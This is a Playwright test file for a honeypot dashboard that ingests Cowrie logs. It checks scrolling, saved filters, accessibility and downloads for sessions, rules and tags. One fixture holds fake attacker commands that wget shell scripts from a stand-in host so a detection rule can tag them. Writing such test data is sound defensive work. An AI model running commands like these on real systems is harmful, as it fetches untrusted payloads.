import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { violations } from './axe';
import { logOf, push, pushKey } from './cowrie';
import { logIn, watch } from './server';

const MANY = 300;

test('all rows of a list are scrolled through in one box, by wheel and by key, and downloaded', async ({ page }) => {
  const seen = watch(page);
  const token = await logIn(page);
  const key = await pushKey(page.request, token);
  const began = Date.now() - 3_600_000;
  const lines = Array.from({ length: MANY }, (_, at) =>
    logOf(
      { session: `ab${String(at).padStart(10, '0')}`, address: `198.18.7.${at % 250}`, commands: [`echo row ${at}`] },
      new Date(began + at * 1000),
    ),
  );
  const pushed = await page.request.post('/api/v1/ingest/cowrie', {
    headers: { 'X-API-Key': key, 'Content-Type': 'text/plain' },
    data: lines.join(''),
  });
  expect(pushed.status()).toBe(200);

  await page.goto('/sessions');
  const table = page.getByRole('region', { name: 'Table of sessions' });
  await expect(page.getByRole('navigation', { name: 'Pages of sessions' })).toBeVisible();
  await page.getByRole('button', { name: 'Scroll through all sessions' }).click();
  await expect(page.getByRole('navigation', { name: 'Pages of sessions' })).toHaveCount(0);
  await expect(page.getByRole('status').filter({ hasText: /^1–/ })).toBeVisible();
  const total = Number(await table.getByRole('table').getAttribute('aria-rowcount')) - 1;
  expect(total).toBeGreaterThanOrEqual(MANY);

  // To the end: the last row is there, and few are drawn.
  await table.evaluate((box) => {
    box.scrollTop = box.scrollHeight;
  });
  await expect(table.locator(`tr[aria-rowindex="${total + 1}"] a`).first()).toBeVisible();
  expect(await table.getByRole('row').count()).toBeLessThan(100);
  expect(await violations(page)).toEqual([]);

  // And back by keys: where the focus is, the box goes.
  const last = table.locator(`tr[aria-rowindex="${total + 1}"] a`).first();
  await last.focus();
  for (let step = 0; step < 30; step++) {
    await page.keyboard.press('ArrowUp');
  }
  const place = await page.evaluate(() => Number(document.activeElement?.closest('tr')?.getAttribute('aria-rowindex')));
  expect(place).toBe(total + 1 - 30);

  // The choice holds for other tables and the next visit.
  await page.reload();
  await expect(page.getByRole('status').filter({ hasText: /^1–/ })).toBeVisible();

  await page.getByRole('button', { name: 'Download the sessions shown' }).click();
  const coming = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /^JSON, all/ }).click();
  const file = await readFile(await (await coming).path(), 'utf8');
  expect(JSON.parse(file) as unknown[]).toHaveLength(total);
  expect(seen).toEqual([]);
});

for (const [place, filters, table] of [
  ['/identities?', 'min=5&sort=largest', 'identities'],
  ['/campaigns?', 'min=2', 'campaigns'],
  ['/artifacts?', 'decky=web-1&service=ssh', 'artifacts'],
  ['/config?tab=audit&', 'action=login', 'audit lines'],
  ['/credentials?tab=reuse&', 'min=3', 'reused credentials'],
] as const) {
  test(`filters of ${table} are saved, and lead back to where they were set`, async ({ page }) => {
    const seen = watch(page);
    await logIn(page);
    await page.goto(`${place}${filters}`);
    await page.getByRole('button', { name: `Saved filters of ${table}` }).click();
    const dialog = page.getByRole('dialog', { name: `Saved filters of ${table}` });
    await dialog.getByLabel('Name for the filters that are set').fill('Mine');
    await dialog.getByRole('button', { name: 'Save' }).click();
    const saved = dialog.getByRole('link', { name: 'Mine' });
    await expect(saved).toBeVisible();

    await page.goto(place.slice(0, -1));
    await page.getByRole('button', { name: `Saved filters of ${table}` }).click();
    await saved.click();
    await expect(page).toHaveURL((url) => url.pathname + url.search === `${place}${filters}`);
    expect(seen).toEqual([]);
  });
}

test('a list that is here whole is downloaded whole, though it is shown in pages', async ({ page }) => {
  await logIn(page);
  await page.goto('/rules');
  const told = (await page.getByText(/^\d+ rules$/).textContent()) ?? '';
  await page.getByRole('button', { name: 'Download the rules shown' }).click();
  const coming = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /^JSON, all/ }).click();
  const file = await readFile(await (await coming).path(), 'utf8');
  expect(JSON.parse(file) as unknown[]).toHaveLength(parseInt(told, 10));
});

test('tags of a rule are downloaded to the last, though they are read by cursors', async ({ page, request }) => {
  const token = await logIn(page);
  const headers = { Authorization: `Bearer ${token}` };
  const session = `tags${Date.now().toString(16)}`;
  const commands = Array.from({ length: 12 }, (_, at) => `wget http://203.0.113.5/${at}.sh`);
  await push(request, await pushKey(request, token), { session, address: '198.51.100.41', commands });
  const tags = async () => {
    const answer = await request.get('/api/v1/ttp/rules/R0012/tags?limit=1000', { headers });
    return ((await answer.json()) as { data: { session_id: string }[] }).data;
  };
  await expect
    .poll(async () => (await tags()).filter((tag) => tag.session_id.endsWith(session)).length, { timeout: 30_000 })
    .toBeGreaterThanOrEqual(12);

  await page.goto('/rules/R0012');
  await page.getByRole('button', { name: 'Download the tags shown' }).click();
  const coming = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /^CSV, all/ }).click();
  const file = await readFile(await (await coming).path(), 'utf8');
  expect(file.trim().split('\r\n').length - 1).toBe((await tags()).length);
});
